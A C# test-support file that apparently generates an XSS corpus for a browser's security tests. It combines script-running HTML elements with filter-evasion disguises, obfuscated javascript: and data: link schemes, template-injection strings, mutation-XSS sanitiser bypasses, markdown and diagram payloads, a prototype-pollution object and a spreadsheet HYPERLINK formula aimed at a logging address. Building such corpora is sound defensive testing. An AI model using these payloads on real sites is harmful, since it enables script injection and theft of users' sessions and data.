namespace Atrium.Browser.Tests;

/// <summary>
/// Texts that run a script, or ask another server, where a page takes them for more than text. Each names its own number: <c>xss(17)</c> is the
/// script of the 17th, and <c>{outside}/17</c> the address it asks.
/// </summary>
internal static class XssCorpus
{
    /// <summary>Elements that act by themselves or at the first touch; J is the script, U the outside address.</summary>
    private static readonly string[] Elements =
    [
        "<script>J</script>", "<script src=\"U\"></script>", "<script type=module>J</script>", "<img src=x onerror=\"J\">", "<img src=\"U\">", "<img srcset=\"U 1x\">", "<svg onload=\"J\">",
        "<svg><script>J</script></svg>", "<svg><animate onbegin=\"J\" attributeName=x dur=1s>", "<svg><set onbegin=\"J\" attributename=x>", "<svg><use href=\"U#x\">", "<svg><image href=\"U\">",
        "<svg><foreignObject><body onload=\"J\"></foreignObject></svg>", "<iframe src=\"javascript:J\"></iframe>", "<iframe srcdoc=\"<script>J</script>\"></iframe>", "<iframe src=\"U\"></iframe>",
        "<object data=\"javascript:J\"></object>", "<object data=\"U\"></object>", "<embed src=\"javascript:J\">", "<embed src=\"U\">", "<video><source onerror=\"J\"></video>", "<video src=\"U\" autoplay></video>",
        "<video poster=\"U\"></video>", "<audio src=x onerror=\"J\">", "<audio src=\"U\" autoplay></audio>", "<body onload=\"J\">", "<body background=\"U\">", "<input autofocus onfocus=\"J\">",
        "<select autofocus onfocus=\"J\"><option>x</select>", "<textarea autofocus onfocus=\"J\">x</textarea>", "<button autofocus onfocus=\"J\">x</button>", "<a href=x autofocus tabindex=1 onfocus=\"J\">x</a>",
        "<details open ontoggle=\"J\">x</details>", "<marquee onstart=\"J\">x</marquee>", "<style>@import url(\"U\");</style>", "<style>*{background:url(\"U\")}</style>", "<link rel=stylesheet href=\"U\">",
        "<link rel=prefetch href=\"U\">", "<link rel=preload as=script href=\"U\">", "<link rel=dns-prefetch href=\"U\">", "<link rel=preconnect href=\"U\">", "<link rel=icon href=\"U\">", "<meta http-equiv=refresh content=\"0;url=U\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:J\">", "<base href=\"U/\">", "<div style=\"background:url(U)\">x</div>", "<div style=\"animation-name:x\" onanimationstart=\"J\">x</div>",
        "<table background=\"U\"><td>x</table>", "<input type=image src=\"U\">", "<form action=\"javascript:J\"><input type=submit autofocus></form>", "<math><mtext><script>J</script></mtext></math>",
        "<math href=\"javascript:J\">x</math>", "<template><script>J</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=J>\">", "<x onpointerenter=\"J\" style=\"position:fixed;inset:0\">x</x>",
        "<dialog open onclose=\"J\"><form method=dialog><button autofocus>x</button></form></dialog>", "<isindex action=\"javascript:J\" type=image>", "<xmp><img src=x onerror=\"J\"></xmp>",
    ];

    /// <summary>How a tag is written so that a filter does not know it for one.</summary>
    private static readonly Func<string, string>[] Disguises =
    [
        tag => tag,
        tag => "\">" + tag,
        tag => "'>" + tag,
        tag => "--></title></textarea></style></script>" + tag,
        tag => tag.Replace("script", "ScRiPt", StringComparison.Ordinal).Replace("img", "ImG", StringComparison.Ordinal).Replace(" on", "\tOn", StringComparison.Ordinal),
        tag => tag.Replace(" ", "/", StringComparison.Ordinal),
        tag => tag.TrimEnd('>').Replace("\"", "", StringComparison.Ordinal),
    ];

    /// <summary>Schemes that a link must not have.</summary>
    private static readonly string[] Schemes =
    [
        "javascript:J", "JaVaScRiPt:J", " javascript:J", "java\tscript:J", "java\nscript:J", "\u0001javascript:J", "javascript&colon;J", "&#106;avascript:J", "&#x6A;avascript:J", "javascript:%4A", "javascript://x/%0AJ", "vbscript:J",
        "data:text/html,<script>J</script>", "data:text/html;base64,PHNjcmlwdD54c3MoMCk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=\"J\">", "view-source:javascript:J", "jar:javascript:J", "filesystem:U", "blob:U", "//U",
    ];

    /// <summary>Where a link stands; L is its address.</summary>
    private static readonly string[] Links = ["[x](L)", "[x](<L>)", "![x](L)", "<L>", "[x][1]\n\n[1]: L", "<a href=\"L\">x</a>"];

    /// <summary>What templates, formulas, code fences, diagrams and sanitisers have taken for more than text.</summary>
    private static readonly string[] Others =
    [
        "{{constructor.constructor('J')()}}", "${J}", "#{J}", "<%= J %>", "{{7*7}}[[J]]", "@{J}", "*{J}", "{%raw%}{{J}}", "javascript:J", "data:text/html,<script>J</script>", "';J;//", "\";J;//", "`;J;//", "\\\";J;//", "</script><script>J//", "*/J/*",
        "$\\href{javascript:J}{x}$", "$\\url{javascript:J}$", "$\\htmlData{x=\"onclick=J\"}{x}$", "$\\includegraphics{U}$", "$$\\unicode{<img src=x onerror=J>}$$", "$\\text{<img src=x onerror=\"J\">}$", "$\\htmlStyle{background:url(U)}{x}$",
        "$\\def\\x{\\x}\\x$ <img src=x onerror=J>", "```\"><img src=x onerror=J>\nx\n```", "```html\n<script>J</script>\n```", "```svg\n<svg onload=\"J\"/>\n```", "```mermaid\ngraph TD\nA[\"<img src=x onerror=J>\"]\nclick A \"javascript:J\"\n```", "~~~<script>J</script>\nx\n~~~",
        "`<img src=x onerror=J>`", "| <img src=x onerror=J> | x |\n|---|---|\n| [x](javascript:J) | ![x](U) |", "- [ ] <img src=x onerror=J>", "# <svg onload=J>", "> <script>J</script>", "1. <iframe src=U>", "![x](U)", "![x](U \"t\" onerror=J)", "[![x](U)](javascript:J)", "![][1]\n\n[1]: U", "<U>", "U",
        "<svg></p><style><a id=\"</style><img src=1 onerror=J>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=J&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=J>", "<noscript><style></noscript><img src=x onerror=J>",
        "<a id=x><a id=x name=y href=\"javascript:J\">", "<img name=getElementById><img src=x onerror=J>", "\u202E<script>J</script>", "\uFEFF<script>J</script>", "<\u0000script>J</script>", "\uFF1Cscript\uFF1EJ\uFF1C/script\uFF1E", "%3Cscript%3EJ%3C/script%3E", "&lt;script&gt;J&lt;/script&gt;", "\\u003cscript\\u003eJ\\u003c/script\\u003e", "<<script>J//<</script>",
        "<img src=x:x onerror\n=\nJ>", "<img/src=`x`onerror=J>", "<img src=x onerror=J//", "<svg/onload=J", "<!--><img src=x onerror=J>-->", "<![CDATA[<script>J</script>]]>", "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">J</x:script>", "=HYPERLINK(\"U\",\"x\")", "__proto__", "constructor", "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=J>\"}}", "<p title=\"`<img src=x onerror=J>`\">",
    ];

    /// <param name="outside">An address of another origin that notes whoever asks it.</param>
    public static IReadOnlyList<string> Make(Uri outside)
    {
        var shapes = Elements.SelectMany(element => Disguises.Select(disguise => disguise(element)))
            .Concat(Links.SelectMany(link => Schemes.Select(scheme => link.Replace("L", scheme, StringComparison.Ordinal))))
            .Concat(Others)
            .Distinct(StringComparer.Ordinal);
        return [.. shapes.Select((shape, number) => Fill(shape, number, outside))];
    }

    // Letters that stand for something are capitals on their own: no shape has them as a word otherwise.
    private static string Fill(string shape, int number, Uri outside) =>
        System.Text.RegularExpressions.Regex.Replace(shape, @"\b[JU]\b", match => match.Value == "J" ? $"xss({number})" : new Uri(outside, $"{number}").ToString());
}
